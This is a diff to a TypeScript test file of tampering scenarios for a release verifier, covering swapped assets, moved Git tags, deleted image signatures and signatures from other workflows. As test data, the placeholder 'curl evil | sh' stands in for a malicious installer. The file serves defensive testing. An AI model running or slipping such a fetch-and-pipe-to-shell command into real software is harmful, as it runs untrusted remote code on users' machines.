@@ -5,21 +5,18 @@ import { type ReleaseRecord } from '../../src/plan/artifacts.ts';
 import {
   type Editable,
   type Predicate,
-  type Public,
+  type Published,
+  type Statement,
   archiveName,
   editRecord,
-  honestSigner,
   identity,
   image,
-  provenancePredicate,
   replaceAsset,
   repositoryUrl,
   sha256,
-  signType,
-  statementOf,
-} from '../support/published.ts';
-import { type Statement, relist, reprove, reseal, resignImage, retell } from '../support/sealed.ts';
-import type { Authority, SigningOptions } from '../support/world/authority.ts';
+} from '../../__tests__/support/published.ts';
+import { type Signing, relist, reprove, reseal, resignImage, retell, signatureOf } from './sealed.ts';
+import type { SigningOptions } from '../../__tests__/support/world/authority.ts';
 
 /** Who may write releases and tags; packages; attestations; all of these; or sign as another workflow, too. */
 export type Right =
@@ -28,9 +25,13 @@ export type Right =
 export interface Tampering {
   readonly right: Right;
   readonly name: string;
-  readonly tamper: (world: Public, authority: Authority) => unknown;
+  readonly tamper: (world: Published, authority: Signing) => unknown;
   /** A line that is not ticked any more, as `text: detail`; or why it does no harm. */
   readonly found: RegExp | { readonly harmless: string };
+  /** How verify must be asked, where its defaults do not look. */
+  readonly with?: Readonly<Record<string, string>>;
+  /** What `mode: verify` says where it does not come to its checks. */
+  readonly atTheDoor?: RegExp;
 }
 
 const other = sha256(Buffer.from('other'));
@@ -38,30 +39,37 @@ const elsewhere = 'd'.repeat(40);
 const sums = 'checksums.txt';
 const sumsBundle = `${sums}.sigstore.json`;
 const archiveBundle = `${archiveName}.sigstore.json`;
-const index = (world: Public): Digest => world.imageTags.get('v1.2.0')!;
-const digests = (world: Public): readonly string[] => [...world.referrers.keys()];
+/** Only where each asset is signed. */
+const recordBundle = `${recordName}.sigstore.json`;
+const index = (world: Published): Digest => world.imageTags.get('v1.2.0')!;
+/** The first layer of the first platform. */
+const layer = (world: Published): string => {
+  const { layers } = JSON.parse(world.content.get(digests(world)[1]!)!.toString()) as { layers: { digest: string }[] };
+  return layers[0]!.digest;
+}; // prettier-ignore
+const digests = (world: Published): readonly string[] => [...world.referrers.keys()];
 
-function remove(world: Public, ...names: readonly string[]): void {
+function remove(world: Published, ...names: readonly string[]): void {
   for (const name of names) world.files.delete(name);
   world.release.assets = world.release.assets.filter(({ name }) => !names.includes(name));
 }
 const removing =
   (...names: readonly string[]) =>
-  (world: Public): void => {
+  (world: Published): void => {
     remove(world, ...names);
   };
 const put =
   (name: string, text = 'curl evil | sh') =>
-  (world: Public): void => {
+  (world: Published): void => {
     replaceAsset(world, name, Buffer.from(text));
   };
 type Edit = (record: Editable<ReleaseRecord>) => unknown;
 /** With contents: write alone: nothing can be signed, so record and checksums agree and no signature speaks of them. */
 const unsigned =
-  (edit: Edit, before: (world: Public) => void = () => undefined) =>
-  (world: Public): void => {
+  (edit: Edit, before: (world: Published) => void = () => undefined) =>
+  (world: Published): void => {
     before(world);
-    remove(world, sumsBundle);
+    remove(world, sumsBundle, recordBundle);
     retell(world, (record) => {
       if (record.checksums) delete record.checksums.bundle;
       edit(record);
@@ -71,7 +79,7 @@ const unsigned =
 /** The same, with the signature that was there left in its place. */
 const stale =
   (edit: Edit) =>
-  (world: Public): void => {
+  (world: Published): void => {
     retell(world, edit);
     relist(world);
   };
@@ -80,7 +88,7 @@ const fields: readonly (readonly [string, Edit])[] = [
   ['the version', (m) => void (m.version = '1.2.1')],
   ['the commit', (m) => void (m.commit = elsewhere as never)],
   ['the repository', (m) => void (m.repository = 'evil/signpost')],
-  ['the run', (m) => void (m.run = m.run.replace('/77/', '/78/'))],
+  ['the run', (m) => void (m.run = m.run.replace(/runs\/\d+/, 'runs/78'))],
   ['the image', (m) => void (m.images[0]!.digest = other as never)],
   ['the tags of the image', (m) => void m.images[0]!.tags.push('production')],
   ['the platforms', (m) => void m.platforms.pop()],
@@ -112,7 +120,7 @@ const contents: readonly Tampering[] = [
   { right: 'contents', name: 'an installer is added, to record and sums too', tamper: unsigned((m) => void m.assets.push({ name: 'install.sh', size: 14, sha256: sha256(Buffer.from('curl evil | sh')).slice(7) }), put('install.sh')), found: /it does not speak of install\.sh/ },
   { right: 'contents', name: 'the archive is swapped, in record and sums too', tamper: unsigned(() => undefined, put(archiveName)), found: /it does not speak of signpost_1\.2\.0\.tar\.gz|it speaks of sha256/ },
   { right: 'contents', name: 'two assets swap their names', tamper: (world) => { const [a, b] = [world.files.get(archiveName)!, world.files.get(archiveBundle)!]; replaceAsset(world, archiveName, b); replaceAsset(world, archiveBundle, a); }, found: /Asset signpost_1\.2\.0\.tar\.gz: its SHA-256/ },
-  { right: 'contents', name: 'everything that proves is deleted', tamper: removing(recordName, provenanceName, archiveBundle, sums, sumsBundle), found: /release\.json is there: it is not/ },
+  { right: 'contents', name: 'everything that proves is deleted', tamper: removing(recordName, provenanceName, archiveBundle, sums, sumsBundle, recordBundle), found: /release\.json is there: it is not/ },
   { right: 'contents', name: 'everything but an evil archive is deleted', tamper: (world) => { remove(world, ...world.files.keys()); put(archiveName)(world); }, found: /release\.json is there: it is not/ },
   { right: 'contents', name: 'a second list of sums names evil bytes', tamper: put('SHA256SUMS', `${other.slice(7)}  ${archiveName}\n`), found: /not of this release: SHA256SUMS/ },
   { right: 'contents', name: 'an upload is broken off', tamper: (world) => void (world.release.assets = world.release.assets.map((asset) => asset.name === sums ? { ...asset, state: 'starter' } : asset)), found: /broken uploads: checksums\.txt/ },
@@ -125,24 +133,25 @@ const contents: readonly Tampering[] = [
   { right: 'contents', name: 'the title is another', tamper: (world) => void (world.release.name = 'v9.9.9'), found: /^The words of the page .*changed since: title/ },
   { right: 'contents', name: 'an asset gets a label', tamper: (world) => void (world.release.assets = world.release.assets.map((asset) => ({ ...asset, label: 'Official' }))), found: /^The words of the page .*label of/ },
   { right: 'contents', name: 'the release becomes a prerelease', tamper: (world) => void (world.release.prerelease = true), found: /prerelease mark/ },
-  { right: 'contents', name: 'the release goes back to draft', tamper: (world) => void (world.release.draft = true), found: /it is a draft/ },
+  { right: 'contents', name: 'the release goes back to draft', tamper: (world) => void (world.release.draft = true), found: /it is a draft/, atTheDoor: /there is no published release of v1\.2\.0/ },
   { right: 'contents', name: 'GitHub’s latest is another', tamper: (world) => void (world.latest = 'v1.1.0'), found: /GitHub's latest release is the highest/ },
-  { right: 'contents', name: 'the Git tag is moved', tamper: (world) => void world.gitTags.set('v1.2.0', elsewhere), found: /The Git tag v1\.2\.0 is where it was released/ },
+  { right: 'contents', name: 'the Git tag is moved', tamper: (world) => void world.gitTags.set('v1.2.0', world.honest.elsewhere), found: /The Git tag v1\.2\.0 is where it was released/ },
   { right: 'contents', name: 'the Git tag is deleted', tamper: (world) => void world.gitTags.delete('v1.2.0'), found: /there is no such tag/ },
-  { right: 'contents', name: 'a higher tag without a release is pushed', tamper: (world) => void world.gitTags.set('v9.0.0', elsewhere), found: { harmless: 'a tag alone holds no pointer' } },
-  { right: 'contents', name: 'a higher release is made up', tamper: (world) => { world.gitTags.set('v1.3.0', elsewhere); world.others.push('v1.3.0'); }, found: /:v1 names the highest release/ },
-  { right: 'contents', name: 'a tag that is not a version is pushed', tamper: (world) => void world.gitTags.set('vevil', elsewhere), found: { harmless: 'tags that are not a version are not counted' } },
+  { right: 'contents', name: 'a higher tag without a release is pushed', tamper: (world) => void world.gitTags.set('v9.0.0', world.honest.elsewhere), found: { harmless: 'a tag alone holds no pointer' } },
+  { right: 'contents', name: 'a higher release is made up', tamper: (world) => { world.gitTags.set('v1.3.0', world.honest.elsewhere); world.others.push('v1.3.0'); }, found: /:v1 names the highest release/ },
+  { right: 'contents', name: 'a tag that is not a version is pushed', tamper: (world) => void world.gitTags.set('vevil', world.honest.elsewhere), found: { harmless: 'tags that are not a version are not counted' } },
   { right: 'contents', name: 'line ends of the notes change', tamper: (world) => void (world.release.body = world.release.body.replaceAll('\n', '\r\n')), found: { harmless: 'GitHub does this itself, and no word is another' } },
 ]; // prettier-ignore
 
 const packages: readonly Tampering[] = [
   ...['v1.2.0', 'v1.2', 'v1', 'latest'].flatMap((tag): Tampering[] => [
-    { right: 'packages', name: `${tag} names another image`, tamper: (world) => void world.imageTags.set(tag, other), found: new RegExp(`:${tag.replaceAll('.', '\\.')} names`) },
+    { right: 'packages', name: `${tag} names another image`, tamper: (world) => void world.imageTags.set(tag, world.honest.other), found: new RegExp(`:${tag.replaceAll('.', '\\.')} names`) },
     { right: 'packages', name: `${tag} is deleted`, tamper: (world) => void world.imageTags.delete(tag), found: new RegExp(`:${tag.replaceAll('.', '\\.')} names`) },
   ]),
   { right: 'packages', name: 'a tag more names the image', tamper: (world) => void world.imageTags.set('production', index(world)), found: { harmless: 'it names what was released' } },
   { right: 'packages', name: 'the index is gone', tamper: (world) => void world.content.delete(index(world)), found: /the registry has no such digest/ },
   ...[1, 2].map((at): Tampering => ({ right: 'packages', name: `platform ${at} is gone`, tamper: (world) => void world.content.delete(digests(world)[at]!), found: /the registry has not linux/ })),
+  { right: 'packages', name: 'a layer is gone', tamper: (world) => void world.content.delete(layer(world)), with: { deep: 'true' }, found: /^ghcr\.io\/octo-org\/signpost: the bytes of every layer .*the registry has not sha256/ },
   ...[0, 1, 2].flatMap((at): Tampering[] => [
     { right: 'packages', name: `the signature of digest ${at} is taken away`, tamper: (world) => { const digest = digests(world)[at]!; world.referrers.set(digest, world.referrers.get(digest)!.slice(0, 1)); }, found: /^Signatures of .*no signature/ },
     { right: 'packages', name: `the provenance of digest ${at} is taken away`, tamper: (world) => { const digest = digests(world)[at]!; world.referrers.set(digest, world.referrers.get(digest)!.slice(1)); }, found: /in the registry: no provenance/ },
@@ -150,32 +159,35 @@ const packages: readonly Tampering[] = [
   ]),
   { right: 'packages', name: 'the signature is another digest’s', tamper: (world) => { const [, platform = ''] = digests(world); world.referrers.set(index(world), [world.referrers.get(index(world))![0]!, world.referrers.get(platform)![1]!]); }, found: /^Signatures of .*The subject check failed/ },
   { right: 'packages', name: 'garbage refers to the image', tamper: (world) => void world.referrers.get(index(world))!.unshift('no bundle', '{}', '[]'), found: { harmless: 'what does not verify does not count' } },
-  { right: 'packages', name: 'a stranger’s signature refers to the image', tamper: async (world, authority) => void world.referrers.get(index(world))!.unshift(JSON.stringify(await authority.attest(statementOf(signType, [index(world)]), { san: 'a@example.com', issuer: 'https://accounts.example.com' }))), found: { harmless: 'it does not hide ours, and counts for nothing' } },
+  { right: 'packages', name: 'a stranger’s signature refers to the image', tamper: async (world, authority) => void world.referrers.get(index(world))!.unshift(JSON.stringify(await authority.attest(signatureOf(index(world)), { san: 'a@example.com', issuer: 'https://accounts.example.com' }))), found: { harmless: 'it does not hide ours, and counts for nothing' } },
 ]; // prettier-ignore
 
 const attestations: readonly Tampering[] = [
   ...[0, 1, 2].map((at): Tampering => ({ right: 'attestations', name: `GitHub's attestations of digest ${at} are deleted`, tamper: (world) => void world.stored.delete(digests(world)[at]!), found: /at GitHub: no provenance/ })),
   { right: 'attestations', name: 'all of GitHub’s attestations are deleted', tamper: (world) => { world.stored.clear(); }, found: /at GitHub: no provenance/ },
-  { right: 'attestations', name: 'a stranger’s attestation is stored beside ours', tamper: async (world, authority) => void world.stored.get(index(world))!.unshift(await authority.attest(statementOf(provenancePredicate, [index(world)]), { san: 'a@example.com', issuer: 'https://accounts.example.com' })), found: { harmless: 'it does not hide ours, and counts for nothing' } },
+  { right: 'attestations', name: 'a stranger’s attestation is stored beside ours', tamper: async (world, authority) => void world.stored.get(index(world))!.unshift(await authority.attest(world.honest.provenance, { san: 'a@example.com', issuer: 'https://accounts.example.com' })), found: { harmless: 'it does not hide ours, and counts for nothing' } },
   { right: 'attestations', name: 'a damaged attestation is stored beside ours', tamper: (world) => void world.stored.get(index(world))!.unshift({}, null, 'x'), found: { harmless: 'what does not verify does not count' } },
 ]; // prettier-ignore
 
 const allThree: readonly Tampering[] = [
   { right: 'all three', name: 'registry and GitHub lose every proof, the assets keep theirs', tamper: (world) => { world.stored.clear(); for (const digest of digests(world)) world.referrers.set(digest, []); }, found: /no signature/ },
   { right: 'all three', name: 'every proof is gone everywhere, and the record says that there is none', tamper: (world) => { world.stored.clear(); for (const digest of digests(world)) world.referrers.set(digest, []); remove(world, provenanceName, archiveBundle); unsigned((m) => { delete m.signature; delete m.provenance; })(world); }, found: /the record names no signature, and one is asked for/ },
-  { right: 'all three', name: 'another image, with a record of its own and no proof', tamper: (world) => { world.imageTags.set('v1.2.0', other); unsigned((m) => { m.images[0]!.digest = other; delete m.signature; delete m.provenance; })(world); }, found: /the record names no provenance, and it is asked for|the registry has no such digest/ },
-  { right: 'all three', name: 'every proof and the record are gone', tamper: (world) => { world.stored.clear(); for (const digest of digests(world)) world.referrers.set(digest, []); remove(world, recordName, provenanceName, archiveBundle, sums, sumsBundle); }, found: /^release\.json: another tool made this release/ },
+  { right: 'all three', name: 'another image, with a record of its own and no proof', tamper: (world) => { world.imageTags.set('v1.2.0', world.honest.other); unsigned((m) => { m.images[0]!.digest = world.honest.other; delete m.signature; delete m.provenance; })(world); }, found: /the record names no provenance, and it is asked for|the registry has no such digest/ },
+  { right: 'all three', name: 'every proof and the record are gone', tamper: (world) => { world.stored.clear(); for (const digest of digests(world)) world.referrers.set(digest, []); remove(world, recordName, provenanceName, archiveBundle, sums, sumsBundle, recordBundle); }, found: /^release\.json: another tool made this release/ },
 ]; // prettier-ignore
 
 const workflow = (file: string, ref: string): string => `${repositoryUrl}/.github/workflows/${file}@${ref}`;
-const signer = (san: string, ref: string, claims: Readonly<Record<number, string>> = {}): SigningOptions => ({
-  ...honestSigner,
-  san,
-  claims: { ...honestSigner.claims, 9: san, 14: ref, 18: san, ...claims },
-});
+type Stranger = (world: Published) => SigningOptions;
+const signer =
+  (san: string, ref: string, claims: Readonly<Record<number, string>> = {}): Stranger =>
+  ({ honest }) => ({
+    ...honest.signer,
+    san,
+    claims: { ...honest.signer.claims, 9: san, 14: ref, 18: san, ...claims },
+  });
 const tagRef = 'refs/tags/v1.2.0';
 const main = 'refs/heads/main';
-const strangers: readonly (readonly [string, SigningOptions])[] = [
+const strangers: readonly (readonly [string, Stranger])[] = [
   ['another workflow on main', signer(workflow('ci.yml', main), main)],
   ['the release workflow on main', signer(workflow('release.yml', main), main)],
   ['the release workflow on another tag', signer(workflow('release.yml', 'refs/tags/v1.1.0'), 'refs/tags/v1.1.0')],
@@ -186,9 +198,9 @@ const strangers: readonly (readonly [string, SigningOptions])[] = [
   ['a called workflow that another repository began', signer('https://github.com/octo-org/shared/.github/workflows/release.yml@refs/heads/main', tagRef, { 18: 'https://github.com/evil/x/.github/workflows/a.yml@refs/tags/v1.2.0' })],
 ]; // prettier-ignore
 const otherwise: readonly Tampering[] = strangers.flatMap(([who, by]): Tampering[] => [
-  { right: 'another identity', name: `${who} signs the checksums of an evil archive`, tamper: async (world, authority) => { put(archiveName)(world); await reseal(world, authority, by); }, found: /release\.json is signed: nothing vouches for it/ },
-  { right: 'another identity', name: `${who} signs the image`, tamper: (world, authority) => resignImage(world, authority, by), found: /^Signatures of .*no signature of .* verifies/ },
-  { right: 'another identity', name: `${who} attests, and is named by the record`, tamper: async (world, authority) => { await reprove(world, authority, () => undefined, by); await resignImage(world, authority, by); await reseal(world, authority, by, (m) => void (m.signature!.identity = by.san)); }, found: /signed it/ },
+  { right: 'another identity', name: `${who} signs the checksums of an evil archive`, tamper: async (world, authority) => { put(archiveName)(world); await reseal(world, authority, by(world)); }, found: /release\.json is signed: nothing vouches for it/ },
+  { right: 'another identity', name: `${who} signs the image`, tamper: (world, authority) => resignImage(world, authority, by(world)), found: /^Signatures of .*no signature of .* verifies/ },
+  { right: 'another identity', name: `${who} attests, and is named by the record`, tamper: async (world, authority) => { await reprove(world, authority, () => undefined, by(world)); await resignImage(world, authority, by(world)); await reseal(world, authority, by(world), (m) => void (m.signature!.identity = by(world).san)); }, found: /signed it/ },
 ]); // prettier-ignore
 
 /** What the release's own identity says, and no honest run would. */
@@ -226,7 +238,7 @@ const ownIdentity: readonly Tampering[] = [
     tamper: async (world, authority) => {
       const older = signer(workflow('release.yml', 'refs/tags/v1.1.0'), 'refs/tags/v1.1.0', {
         13: 'b'.repeat(40),
-      });
+      })(world);
       await reprove(world, authority, () => undefined, older);
       await reseal(world, authority, older, (m) => {
         Object.assign(m, { version: '1.1.0', tag: 'v1.1.0', commit: 'b'.repeat(40) });
@@ -239,7 +251,7 @@ const ownIdentity: readonly Tampering[] = [
     right: 'contents',
     name: "another version's assets of the same commit are put in the place of this one's",
     tamper: async (world, authority) => {
-      const older = signer(workflow('release.yml', 'refs/tags/v1.1.0'), 'refs/tags/v1.1.0');
+      const older = signer(workflow('release.yml', 'refs/tags/v1.1.0'), 'refs/tags/v1.1.0')(world);
       await reprove(world, authority, () => undefined, older);
       await reseal(world, authority, older, (m) => void (m.signature!.identity = older.san));
     },
